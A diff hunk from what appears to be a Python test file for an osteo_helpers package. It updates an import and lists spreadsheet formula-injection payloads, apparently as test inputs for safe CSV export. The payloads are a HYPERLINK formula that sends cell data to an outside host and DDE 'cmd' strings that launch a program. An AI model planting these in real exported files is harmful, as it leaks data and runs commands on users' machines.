@@ -17,7 +17,7 @@ import numpy as np
 import pandas as pd
 
 from osteo_helpers import arms
-from osteo_helpers.__main__ import main
+from osteo_helpers.cli import main
 from osteo_helpers.fileio import atomic_to_csv, csv_bytes, read_csv
 
 FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
